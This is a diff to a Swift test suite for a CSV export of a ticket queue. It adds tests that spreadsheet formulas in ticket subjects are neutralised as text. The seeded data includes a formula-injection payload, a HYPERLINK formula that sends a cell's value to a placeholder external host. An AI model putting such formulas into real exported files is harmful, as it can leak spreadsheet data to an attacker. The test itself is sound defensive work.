@@ -219,12 +219,18 @@ struct BacklogStepsExportTests {
         #expect(try harness.history("imp1").filter { $0.kind == "step" }.map(\.newValue) == ["Levantamento", "Configuração"])
     }
 
-    @Test("the queue exports as streamed CSV with no row cap and the same access rules", arguments: TestEngines.all)
+    @Test("the queue exports as streamed CSV with no row cap and the same access rules; a subject that a spreadsheet would run as a formula is written as text", arguments: TestEngines.all)
     func export(engine: DatabaseEngine) throws {
         let harness = try WorkflowHarness(engine)
         try harness.seedDirectory()
         for i in 0..<1_250 {
-            var event = WorkflowHarness.opened(String(format: "x%04d", i), subject: i == 3 ? "Vírgula, \"aspas\" e acentuação" : "Assunto \(i)")
+            let subject = switch i {
+            case 3: "Vírgula, \"aspas\" e acentuação"
+            case 5: "=HYPERLINK(\"http://exemplo.invalid/?x=\"&A1)"
+            case 6: "@SUM(1+1)"
+            default: "Assunto \(i)"
+            }
+            var event = WorkflowHarness.opened(String(format: "x%04d", i), subject: subject)
             event.openedAtMs = 1_790_000_000_000 + Int64(i)
             try harness.deliver(event, key: event.ticketID)
         }
@@ -248,6 +254,9 @@ struct BacklogStepsExportTests {
         #expect(all.count == 1_251)
         #expect(all[0].hasPrefix("code,subject,organization"))
         #expect(all[4].contains("\"Vírgula, \"\"aspas\"\" e acentuação\""))
+        // A subject a spreadsheet would run as a formula arrives as text.
+        #expect(all[6].contains(",\"'=HYPERLINK(\"\"http://exemplo.invalid/?x=\"\"&A1)\","), "\(all[6])")
+        #expect(all[7].contains(",'@SUM(1+1),"), "\(all[7])")
         let bruno = try export(as: WorkflowHarness.agent("bruno"))
         #expect(bruno.count == 1_250 && !bruno.contains { $0.hasPrefix("2026-x0007,") })
         #expect(throws: RPCError.self) {
